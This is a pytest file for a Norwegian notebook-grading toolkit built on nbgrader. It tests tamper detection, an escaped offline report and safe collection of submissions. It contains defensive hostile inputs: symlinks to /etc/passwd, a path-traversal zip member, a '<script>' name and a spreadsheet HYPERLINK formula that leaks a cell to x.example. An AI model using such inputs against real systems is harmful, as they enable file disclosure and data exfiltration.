"""Anomaly detection on crafted notebooks, the course scan, and the report."""
from __future__ import annotations

import copy
import datetime as dt
import json
import re
import shutil

import nbformat
import pytest

from grading.anomalies import scan
from grading.anomaly_report import render_html, write_report
from grading.findings import KINDS, Anomaly
from grading.notebook_check import inspect_notebook
from grading_fixtures import EXERCISES, SCRIPT, fixture_source


def fake_release(source):
    """What nbgrader's release does to the fixture: stubs for answers, no hidden tests."""
    nb = copy.deepcopy(source)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            if cell.cell_type == "code":
                cell.source = re.sub(r"### BEGIN SOLUTION.*?### END SOLUTION",
                                     "# SKRIV SVARET DITT HER\nraise NotImplementedError()",
                                     cell.source, flags=re.S)
            else:
                cell.source = "SKRIV SVARET DITT HER"
        cell.source = re.sub(r"\n?### BEGIN HIDDEN TESTS.*?### END HIDDEN TESTS", "", cell.source, flags=re.S)
    return nb


@pytest.fixture(scope="module")
def release():
    return fake_release(fixture_source("vage"))


def answered(release):
    nb = copy.deepcopy(release)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            cell.source = "nivaaer = ['a', 'b', 'c', 'd', 'vane']" if meta["grade_id"] == "svar-nivaaer" else \
                ("def antall_ord(t):\n    return len(t.split())" if cell.cell_type == "code" else "Mitt svar.")
    return nb


def check(nb, release):
    data = nbformat.writes(nb).encode() if not isinstance(nb, bytes) else nb
    return inspect_notebook(data, json.loads(nbformat.writes(release)), student="s", assignment="vage")


def kinds(found):
    return sorted((a.kind, a.cell) for a in found)


def cell(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def test_complete_work_has_no_anomaly(release):
    assert check(answered(release), release) == []


def test_hidden_tests_removed_by_release_are_not_tampering(release):
    # the submission's test cell equals the RELEASED cell (without hidden tests): no anomaly,
    # although it differs from the source cell that nbgrader's checksum warning compares with
    nb = answered(release)
    assert "HIDDEN" not in cell(nb, "test-nivaaer").source
    assert check(nb, release) == []


def test_unanswered_stubs(release):
    assert kinds(check(copy.deepcopy(release), release)) == [
        ("ubesvart", "refleksjon"), ("ubesvart", "svar-nivaaer"), ("ubesvart", "svar-ord")]


def test_malformed_json_with_line(release):
    text = nbformat.writes(answered(release))
    (a,) = check(text[: len(text) // 2].encode(), release)
    assert a.kind == "ugyldig_notatbok" and "linje" in a.description and a.severity == "høy"


def test_not_utf8(release):
    (a,) = check(b"\xff\xfe\x00garbage", release)
    assert a.kind == "ugyldig_notatbok" and "UTF-8" in a.description


def test_json_but_not_a_notebook(release):
    (a,) = check(json.dumps({"cells": 5, "nbformat": 4, "nbformat_minor": 5}).encode(), release)
    assert a.kind == "ugyldig_notatbok" and "nbformat" in a.description


@pytest.mark.parametrize("gid, kind", [
    ("test-nivaaer", "slettet_testcelle"),
    ("refleksjon", "slettet_svarcelle"),
    ("svar-ord", "slettet_svarcelle"),
    ("instruks-refleksjon", "slettet_last_celle"),
])
def test_deleted_cells(release, gid, kind):
    nb = answered(release)
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != gid]
    assert kinds(check(nb, release)) == [(kind, gid)]


def test_edited_test_and_locked_cells(release):
    nb = answered(release)
    cell(nb, "test-ord").source = "pass"
    cell(nb, "intro").source += " (endret)"
    assert kinds(check(nb, release)) == [("endret_last_celle", "intro"), ("endret_testcelle", "test-ord")]


def test_changed_cell_type_and_points(release):
    nb = answered(release)
    c = cell(nb, "instruks-ord")
    nb.cells[nb.cells.index(c)] = nbformat.v4.new_code_cell(c.source, metadata=c.metadata, id=c.id)
    cell(nb, "test-nivaaer").metadata["nbgrader"]["points"] = 100
    assert kinds(check(nb, release)) == [("endret_celletype", "instruks-ord"), ("endret_poeng", "test-nivaaer")]


def test_duplicated_cell(release):
    nb = answered(release)
    nb.cells.append(copy.deepcopy(cell(nb, "svar-ord")))
    nb.cells[-1].id = "kopi"
    assert kinds(check(nb, release)) == [("dobbel_celle", "svar-ord")]


def test_stripped_metadata_restorable_by_cell_id(release):
    nb = answered(release)
    for c in nb.cells:
        c.metadata = {}
    (a,) = check(nb, release)
    assert a.kind == "manglende_metadata" and "lagt tilbake" in a.action


def test_stripped_metadata_and_new_ids(release):
    """The whole notebook lost its metadata: ONE notebook-level finding, not one per cell."""
    nb = answered(release)
    for i, c in enumerate(nb.cells):
        c.metadata = {}
        c.id = f"ny-{i}"
    found = check(nb, release)
    assert [(a.kind, a.cell) for a in found] == [("manglende_metadata", "")], kinds(found)
    assert "hele notatboken" in found[0].description and "for hånd" in found[0].action


def test_whole_notebook_stripped_some_cells_unmatched_is_one_finding(release):
    """All metadata gone, two cells also got new ids: one finding that names the two cells."""
    nb = answered(release)
    for c in nb.cells:
        c.metadata = {}
    cell_ids = {c.id: c for c in release.cells}
    for gid in ("test-ord", "refleksjon"):
        rel_id = next(i for i, c in cell_ids.items() if c.metadata["nbgrader"]["grade_id"] == gid)
        next(c for c in nb.cells if c.id == rel_id).id = f"ny-{gid}"
    found = check(nb, release)
    assert [(a.kind, a.cell) for a in found] == [("manglende_metadata", "")], kinds(found)
    (a,) = found
    assert "hele notatboken" in a.description
    assert "2 av 8 celler kunne ikke kobles" in a.description
    assert "«refleksjon»" in a.description and "«test-ord»" in a.description
    assert "lagt tilbake" in a.action and "for hånd" in a.action


def test_whole_notebook_stripped_is_one_row_in_the_report(release, tmp_path):
    nb = answered(release)
    for i, c in enumerate(nb.cells):
        c.metadata = {}
        c.id = f"ny-{i}"
    found = check(nb, release)
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(render_html("vage", found, {}), "html.parser")
    section = soup.find("section")
    rows = [[td.get_text() for td in tr.find_all("td")] for tr in section.find("tbody").find_all("tr")]
    assert [r[0] for r in rows] == ["Fjernet metadata"]
    assert "Slettet" not in soup.get_text()


def test_deleted_cells_in_a_notebook_that_kept_its_metadata_are_still_per_cell(release):
    nb = answered(release)
    test_ord = cell(nb, "test-ord")
    test_ord.metadata, test_ord.id = {}, "ny"
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "refleksjon"]
    assert kinds(check(nb, release)) == [("slettet_svarcelle", "refleksjon"), ("slettet_testcelle", "test-ord")]


def test_partial_metadata_loss_is_detected(release):
    nb = answered(release)
    cell(nb, "test-ord").metadata = {}
    assert kinds(check(nb, release)) == [("manglende_metadata", "")]


def test_every_kind_has_a_norwegian_title_and_severity():
    for kind, (title, sev) in KINDS.items():
        assert title and sev in ("høy", "middels", "info")


# --------------------------------------------------------------------------- scan + report
@pytest.fixture()
def course(tmp_path, release):
    from grading._nbgrader import gradebook
    from grading.archive import log_event
    from grading.roster import import_roster

    shutil.copy(EXERCISES / "nbgrader_config.py", tmp_path / "nbgrader_config.py")
    (tmp_path / "release" / "vage").mkdir(parents=True)
    nbformat.write(release, str(tmp_path / "release" / "vage" / "vage.ipynb"))
    import_roster(tmp_path, data=("id;navn;epost;enhet\nola;Ola Nordmann;ola@k.no;Helse\n"
                                  "kari;Kari <b>Nordmann</b>;kari@k.no;Skole\nper;Per;per@k.no;Skole\n").encode())
    with gradebook(tmp_path) as gb:
        gb.update_or_create_assignment("vage", duedate=dt.datetime(2026, 11, 20, 11, 0))

    def submit(student, nb, ts):
        d = tmp_path / "submitted" / student / "vage"
        d.mkdir(parents=True)
        (d / "vage.ipynb").write_text(nbformat.writes(nb))
        (d / "timestamp.txt").write_text(ts)

    submit("ola", answered(release), "2026-11-20 10:00:00.000000 UTC")
    late = answered(release)
    cell(late, "test-ord").source = "pass"
    submit("kari", late, "2026-11-22 11:30:00.000000 UTC")
    submit("fremmed", answered(release), "2026-11-20 10:00:00.000000 UTC")
    log_event(tmp_path, "vage", {"kind": "ukjent_deltaker", "student": "x<script>", "file": f"{SCRIPT}.ipynb",
                                 "sha256": "abc", "message": f"Filen «{SCRIPT}.ipynb» kan ikke knyttes."})
    return tmp_path


def test_scan_finds_course_level_anomalies(course):
    found = scan(course, "vage", autograde_failures={"ola": "filen er ikke gyldig JSON"})
    got = sorted((a.student, a.kind) for a in found)
    assert got == sorted([
        ("fremmed", "ukjent_deltaker"),
        ("kari", "endret_testcelle"),
        ("kari", "for_sen"),
        ("ola", "retting_feilet"),
        ("per", "ikke_levert"),
        ("x<script>", "ukjent_deltaker"),
    ])
    late = next(a for a in found if a.kind == "for_sen")
    assert "2 døgn" in late.description and "20.11.2026 kl. 12:00" in late.description


def test_report_is_escaped_accessible_and_offline(course):
    found = scan(course, "vage")
    paths = write_report(course, "vage", found)
    html = paths["html"].read_text(encoding="utf-8")
    assert html.startswith("<!DOCTYPE html>") and '<html lang="nb">' in html
    assert SCRIPT not in html and "&lt;script&gt;" in html
    assert "<b>Nordmann</b>" not in html and "&lt;b&gt;Nordmann&lt;/b&gt;" in html
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", html)
    assert "<link" not in html and "<script" not in html
    assert html.count("<th scope=") >= 3 and "<caption>" in html and "<main" in html
    csv = paths["csv"].read_text(encoding="utf-8-sig").splitlines()
    assert csv[0].startswith("deltaker;navn;enhet;oppgave;type")
    assert len(csv) == len(found) + 1


def test_empty_report():
    text = render_html("vage", [], {})
    assert "Ingen avvik funnet" in text


def test_anomaly_key_dedupes():
    from grading.findings import dedupe

    a = Anomaly("s", "vage", "ubesvart", "x", cell="c")
    assert dedupe([a, Anomaly("s", "vage", "ubesvart", "y", cell="c")]) == [a]


# --------------------------------------------------------------------------- collection from a folder/zip
@pytest.mark.parametrize("parts, expected", [
    (("ola.ipynb",), ("ola", "vage", "ok")),
    (("ola_vage.ipynb",), ("ola", "vage", "ok")),
    (("ola-vage.ipynb",), ("ola", "vage", "ok")),
    (("innlevert", "ola_vage.ipynb"), ("ola", "vage", "ok")),
    (("ola", "vage", "vage.ipynb"), ("ola", "vage", "ok")),
    (("ola", "vage.ipynb"), ("ola", "vage", "ok")),
    (("ola", "lede", "lede.ipynb"), ("ola", "lede", "other")),
    (("ola_lede.ipynb",), ("ola", None, "other")),
])
def test_file_name_patterns(parts, expected):
    from grading.collect import match

    assert match(parts, "vage", ["vage"], {"lede", "laere"}) == expected


def test_collect_folder_reports_and_archives_everything(course, tmp_path, release):
    import hashlib
    import os
    import zipfile

    from grading.archive import verify_archive
    from grading.collect import collect_folder

    good = nbformat.writes(answered(release)).encode()
    other = nbformat.writes(release).encode()
    src = tmp_path / "inn"
    (src / "per" / "vage").mkdir(parents=True)
    (src / "per" / "vage" / "vage.ipynb").write_bytes(good)
    (src / "per_vage.ipynb").write_bytes(other)  # a second, different file for per
    (src / "nobody_vage.ipynb").write_bytes(good)
    (src / "notat.docx").write_bytes(b"x")
    (src / ".skjult.ipynb").write_bytes(good)
    os.symlink("/etc/passwd", src / "lenke.ipynb")
    t_old, t_new = 1_700_000_000, 1_700_000_600
    os.utime(src / "per_vage.ipynb", (t_old, t_old))
    os.utime(src / "per" / "vage" / "vage.ipynb", (t_new, t_new))
    before = {p: p.read_bytes() for p in src.rglob("*") if p.is_file() and not p.is_symlink()}

    res = collect_folder(course, "vage", src, progress=False)
    got = sorted((e["kind"], e["student"]) for e in res.events)
    assert ("flere_filer", "per") in got and ("ukjent_deltaker", "nobody") in got
    assert sum(1 for k, _ in got if k == "ukjent_fil") == 2  # the .docx and the symlink
    # the newest file is used, both are archived byte for byte, originals untouched
    assert (course / "submitted" / "per" / "vage" / "vage.ipynb").read_bytes() == good
    shas = {hashlib.sha256(p.read_bytes()).hexdigest() for p in (course / "arkiv").rglob("*.ipynb")}
    assert {hashlib.sha256(good).hexdigest(), hashlib.sha256(other).hexdigest()} <= shas
    assert any("_ukjente" in p.parts for p in (course / "arkiv").rglob("nobody_vage.ipynb"))
    assert {p: p.read_bytes() for p in before} == before
    assert verify_archive(course, "vage") == []
    # archived files are read-only
    for p in (course / "arkiv").rglob("*.ipynb"):
        assert not p.stat().st_mode & 0o222
    # collecting the same folder again adds no new archive copies
    n = len(list((course / "arkiv").rglob("*.ipynb")))
    collect_folder(course, "vage", src, progress=False)
    assert len(list((course / "arkiv").rglob("*.ipynb"))) == n

    # a zip with a path-traversal member is read, never extracted
    zpath = tmp_path / "inn.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr("../../ola_vage.ipynb", good)
        zf.writestr("ola/vage/vage.ipynb", good)
    res = collect_folder(course, "vage", zpath, progress=False)
    assert [c.student for c in res.collected if c.used] == ["ola"]
    assert not (tmp_path.parent / "ola_vage.ipynb").exists()


def test_unknown_learners_show_in_the_report(course, tmp_path, release):
    from grading.collect import collect_folder

    src = tmp_path / "inn2"
    src.mkdir()
    (src / "ukjent.person_vage.ipynb").write_text(nbformat.writes(answered(release)))
    collect_folder(course, "vage", src, progress=False)
    found = scan(course, "vage")
    assert ("ukjent.person", "ukjent_deltaker") in {(a.student, a.kind) for a in found}


@pytest.mark.browser
def test_report_passes_axe_and_makes_no_requests(course):
    from playwright.sync_api import sync_playwright

    from browser import format_violations, launch, run_axe, watch_requests

    found = scan(course, "vage", autograde_failures={"ola": "filen er ikke gyldig JSON"})
    path = write_report(course, "vage", found)["html"]
    with sync_playwright() as p:
        browser = launch(p)
        try:
            page = browser.new_context(bypass_csp=True).new_page()  # CSP would block axe itself
            log = watch_requests(page)
            page.goto(path.as_uri())
            assert page.evaluate("document.documentElement.lang") == "nb"
            assert page.evaluate("document.querySelectorAll('script').length") == 0
            violations = run_axe(page)
            assert violations == [], format_violations(violations)
            assert log.external == []
        finally:
            browser.close()


def test_zip_times_are_norwegian_time_whatever_the_server_zone(course, tmp_path, release, monkeypatch):
    """A zip stores local time without a zone: 11:30 in Norway is 10:30 UTC, before the 12:00 deadline."""
    import time
    import zipfile

    from grading.collect import collect_folder

    monkeypatch.setenv("TZ", "UTC")  # a server in UTC
    time.tzset()
    try:
        zpath = tmp_path / "per.zip"
        with zipfile.ZipFile(zpath, "w") as zf:
            zf.writestr(zipfile.ZipInfo("per_vage.ipynb", (2026, 11, 20, 11, 30, 0)),
                        nbformat.writes(answered(release)))
        collect_folder(course, "vage", zpath, progress=False)
    finally:
        monkeypatch.undo()
        time.tzset()
    stamp = (course / "submitted" / "per" / "vage" / "timestamp.txt").read_text().strip()
    assert stamp == "2026-11-20 10:30:00.000000 UTC"
    assert ("per", "for_sen") not in {(a.student, a.kind) for a in scan(course, "vage")}


def test_symlink_in_zip_is_not_collected(course, tmp_path):
    import stat
    import zipfile

    from grading.collect import collect_folder

    zpath = tmp_path / "lenke.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        info = zipfile.ZipInfo("per_vage.ipynb", (2026, 11, 20, 10, 0, 0))
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, "/etc/passwd")
    res = collect_folder(course, "vage", zpath, progress=False)
    assert res.collected == []
    assert [e["kind"] for e in res.events] == ["ukjent_fil"]
    assert "symlink" in res.events[0]["message"]
    assert not (course / "submitted" / "per").exists()
    assert not (course / "arkiv" / "vage" / "per").exists()


def test_report_csv_does_not_let_learner_text_become_a_formula(tmp_path):
    import csv

    bad = '=HYPERLINK("http://x.example/?"&A1;"klikk").ipynb'
    items = [Anomaly("(ukjent)", "vage", "ukjent_fil", f"«{bad}» er ikke samlet inn.", file=bad),
             Anomaly("ola", "vage", "ukjent_fil", "x", file="@SUM(1+1).ipynb")]
    path = write_report(tmp_path, "vage", items, out_dir=tmp_path / "ut")["csv"]
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=";"))
    assert {r["fil"] for r in rows} == {"'" + bad, "'@SUM(1+1).ipynb"}
    assert all(not r[c].startswith(("=", "+", "-", "@")) for r in rows for c in r)
    assert {r["deltaker"] for r in rows} == {"(ukjent)", "ola"}


def test_collect_keeps_an_unarchived_submission_before_replacing_it(course, tmp_path, release):
    """ola's submission in submitted/ (put there outside the toolkit) is archived, not lost."""
    import hashlib

    from grading.archive import verify_archive
    from grading.collect import collect_folder

    old = (course / "submitted" / "ola" / "vage" / "vage.ipynb").read_bytes()
    assert not (course / "arkiv" / "vage" / "ola").exists()
    src = tmp_path / "ny"
    src.mkdir()
    newer = nbformat.writes(release).encode()
    (src / "ola_vage.ipynb").write_bytes(newer)
    res = collect_folder(course, "vage", src, when=dt.datetime(2026, 11, 20, 10, 30, tzinfo=dt.timezone.utc),
                         progress=False)
    assert res.students == ["ola"]
    assert (course / "submitted" / "ola" / "vage" / "vage.ipynb").read_bytes() == newer
    shas = {hashlib.sha256(p.read_bytes()).hexdigest() for p in (course / "arkiv" / "vage" / "ola").rglob("*.ipynb")}
    assert shas == {hashlib.sha256(old).hexdigest(), hashlib.sha256(newer).hexdigest()}
    assert verify_archive(course, "vage") == []


def test_damaged_zip_member_is_reported_and_the_rest_collected(course, tmp_path, release):
    import zipfile

    from grading.collect import collect_folder

    good = nbformat.writes(answered(release)).encode()
    zpath = tmp_path / "skadet.zip"
    with zipfile.ZipFile(zpath, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr("per_vage.ipynb", good)
        zf.writestr("ola_vage.ipynb", good)
    raw = bytearray(zpath.read_bytes())
    per_at = raw.index(b"per_vage.ipynb") + len("per_vage.ipynb")
    first = raw.index(b'"cells"', per_at)
    raw[first + 1] ^= 0x20  # break the CRC of per's member
    zpath.write_bytes(bytes(raw))
    res = collect_folder(course, "vage", zpath, progress=False)
    assert res.students == ["ola"]
    (ev,) = [e for e in res.events if e["kind"] == "ukjent_fil"]
    assert ev["file"] == "per_vage.ipynb" and "kan ikke leses" in ev["message"]
    assert not (course / "submitted" / "per").exists()


def test_autograde_grades_again_after_a_kernel_that_did_not_start(tmp_path, monkeypatch):
    """A kernel that dies at start on a busy machine says nothing about the submission:
    the toolkit grades it again. A real failure (bad JSON) is not retried."""
    import grading.autograde as ag

    calls: dict[str, int] = {}

    def fake_grade_one(args):
        _, student, _ = args
        calls[student] = calls.get(student, 0) + 1
        if student == "ustabil" and calls[student] == 1:
            return ag.StudentResult(student, False, 0.1,
                                    error="RuntimeError: Kernel died before replying to kernel_info")
        if student == "odelagt":
            return ag.StudentResult(student, False, 0.1, error="NotJSONError: Notebook does not appear to be JSON")
        return ag.StudentResult(student, True, 0.1)

    monkeypatch.setattr(ag, "_init_worker", lambda *a, **k: None)
    monkeypatch.setattr(ag, "_grade_one", fake_grade_one)
    monkeypatch.setattr(ag, "_API", object())
    res = ag.autograde(tmp_path, "vage", ["ok", "ustabil", "odelagt"], workers=1, progress=False)
    by = {r.student: r for r in res.results}
    assert by["ustabil"].success and calls["ustabil"] == 2
    assert not by["odelagt"].success and calls["odelagt"] == 1
    assert by["ok"].success and calls["ok"] == 1
